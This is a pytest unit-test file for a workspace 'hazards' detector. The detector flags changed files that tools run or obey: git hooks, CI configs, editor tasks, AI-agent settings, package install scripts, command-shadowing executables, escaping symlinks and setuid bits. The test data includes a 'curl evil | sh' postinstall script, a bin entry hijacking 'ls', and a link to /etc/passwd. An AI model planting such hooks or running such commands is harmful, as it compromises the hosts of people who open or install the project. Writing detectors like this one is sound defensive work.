"""What the host would execute later is named; what it would not is left alone."""

import pytest

from tests.unit.workspace.bringing import Thing, Tree, link, program, ran
from tipstaff.workspace.apply.hazards import Hazard, find


def found(becomes: Tree, was: Tree | None = None, setuid: tuple[bytes, ...] = ()) -> list[tuple[bytes, str]]:
    """Name what is found in a change, with its kind."""
    return [(one.name, one.kind) for one in hazards(becomes, was, setuid)]


def hazards(becomes: Tree, was: Tree | None = None, setuid: tuple[bytes, ...] = ()) -> list[Hazard]:
    """Find the hazards of a change."""
    run = ran(was or {}, becomes)
    return find(run.changes, run.contents, setuid)


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        (b".gitattributes", "git"),
        (b"sub/.gitmodules", "git"),
        (b".gitconfig", "git"),
        (b".githooks/pre-push", "hooks"),
        (b"lefthook.yml", "hooks"),
        (b".vscode/tasks.json", "editor"),
        (b".idea/workspace.xml", "editor"),
        (b".devcontainer/devcontainer.json", "editor"),
        (b"project.code-workspace", "editor"),
        (b".exrc", "editor"),
        (b".dir-locals.el", "editor"),
        (b".envrc", "environment"),
        (b".env.local", "environment"),
        (b".mise.toml", "environment"),
        (b".tool-versions", "environment"),
        (b".github/workflows/build.yml", "ci"),
        (b".gitlab-ci.yml", "ci"),
        (b".circleci/config.yml", "ci"),
        (b"Jenkinsfile", "ci"),
        (b"setup.py", "package"),
        (b"tests/conftest.py", "package"),
        (b"build.rs", "package"),
        (b".cargo/config.toml", "package"),
        (b".npmrc", "package"),
        (b"sitecustomize.py", "package"),
        (b"x.pth", "package"),
        (b"pyproject.toml", "package"),
        (b"Makefile", "build"),
        (b"Dockerfile", "build"),
        (b".pre-commit-config.yaml", "hooks"),
        (b".husky/pre-commit", "hooks"),
        (b".claude/settings.json", "agent"),
        (b"CLAUDE.md", "agent"),
        (b"AGENTS.md", "agent"),
        (b".mcp.json", "agent"),
        (b".cursor/mcp.json", "agent"),
        (b".github/copilot-instructions.md", "agent"),
        (b".aider.conf.yml", "agent"),
        (b".bashrc", "shell"),
        (b".config/fish/config.fish", "shell"),
    ],
)
def test_what_tools_obey_is_named(name, kind):
    """A file that some tool runs or obeys is found, in any folder and in any case of letters, unless it is deleted."""
    deeper = b"deep/" + name

    assert found({name: Thing(b"x")})[0] == (name, kind)
    assert (deeper.upper(), kind) in found({deeper.upper(): Thing(b"x")})
    assert found({}, {name: Thing(b"x")}) == []


@pytest.mark.parametrize(
    "name",
    [
        b"README.md",
        b"src/main.py",
        b"tasks.json",
        b"workflows/build.yml",
        b"environment",
        b"my.envrc.txt",
        b"makefiles/x",
    ],
)
def test_ordinary_files_are_not(name):
    """A file that nothing obeys is no hazard, although its name may look like one that is."""
    assert found({name: Thing(b"x")}) == []


@pytest.mark.parametrize("name", [b".vscode", b".github", b".claude", b".config"])
def test_a_link_in_the_place_of_a_folder_is_named(name):
    """A link that stands for a folder of such files is found; a plain file of that name leads nowhere."""
    assert name in [one for one, kind in found({name: link(b"elsewhere")}) if kind != "link"]


@pytest.mark.parametrize(
    ("content", "kinds"),
    [
        (b'{"name": "x", "scripts": {"test": "x"}}', []),
        (b'{"scripts": {"postinstall": "curl evil | sh"}}', ["postinstall"]),
        (b'{"bin": {"ls": "evil.js"}}', ["bin"]),
        (b'{"scripts": {"prepare": "x", "preinstall": "y"}}', ["preinstall, prepare"]),
        (b"{broken", ["cannot be read"]),
        (b"[]", ["cannot be read"]),
        (b"[" * 100_000, ["cannot be read"]),
    ],
)
def test_package_scripts_are_named(content, kinds):
    """Of a package.json the keys that run something at installation are named; one that cannot be read is, too."""
    reasons = [one.why for one in hazards({b"package.json": Thing(content)})]

    assert len(reasons) == len(kinds)
    assert all(kind in reason for kind, reason in zip(kinds, reasons, strict=True))


@pytest.mark.parametrize(
    ("name", "thing", "is_one"),
    [
        (b"ls", program(b"x"), True),
        (b"sub/Python3", program(b"x"), True),
        (b"git", link(b"evil"), True),
        (b"ls", Thing(b"x"), False),
        (b"node_modules/.bin/tsc2", program(b"x"), True),
        (b".venv/bin/thing", program(b"x"), True),
        (b"bin/readme", Thing(b"x"), False),
        (b"run-tests", program(b"x"), False),
    ],
)
def test_programs_in_the_way_of_others_are_named(name, thing, is_one):
    """An executable with a usual command's name, or where shells look, is found; data of that name is not."""
    assert (found({name: thing}) == [(name, "program")]) is is_one


def test_a_file_that_becomes_executable_is_named():
    """A file that was there and gains the right to run is found; one that had it is not."""
    assert found({b"run": program(b"x")}, {b"run": Thing(b"x")}) == [(b"run", "program")]
    assert found({b"run": program(b"y")}, {b"run": program(b"x")}) == []


@pytest.mark.parametrize(
    ("name", "goal", "is_one"),
    [
        (b"pw", b"/etc/passwd", True),
        (b"up", b"../x", True),
        (b"a/b/up", b"../../../x", True),
        (b"a/b/within", b"../../x", False),
        (b"round", b"a/../../x", True),
        (b"beside", b"x", False),
        (b"a/here", b"./x", False),
    ],
)
def test_links_that_lead_out_are_named(name, goal, is_one):
    """A link is a hazard if, and only if, it is absolute or climbs out of the folder."""
    assert (found({name: link(goal)}) == [(name, "link")]) is is_one


@pytest.mark.parametrize(
    "name", [b".gitmodules", b"sub/.gitattributes", b".GITIGNORE", b".mailmap", b".git\xe2\x80\x8cignore"]
)
def test_links_where_git_reads_files_are_named(name):
    """A link in the place of a file that git reads is named, in every spelling that a file system may take for it."""
    assert "git reads no link of this name, and may refuse to check it out" in [
        one.why for one in hazards({name: link(b"elsewhere")})
    ]


@pytest.mark.parametrize("name", [b".gitignore", b"sub/.mailmap"])
def test_plain_files_that_git_reads_are_not(name):
    """A file that only says what to leave out, or who is who, is no hazard; nor is a link of another name."""
    assert found({name: Thing(b"x"), b"gitignore": link(b"x")}) == []


def test_a_link_whose_goal_is_not_known_is_named():
    """Without its content a link is not taken for harmless."""
    assert [one.kind for one in find(ran({}, {b"a": link(b"b")}).changes)] == ["link"]


def test_setuid_bits_are_named():
    """What had the bit inside is named, though it is never brought with it."""
    assert found({b"tool": Thing(b"x")}, setuid=(b"tool",)) == [(b"tool", "setuid")]
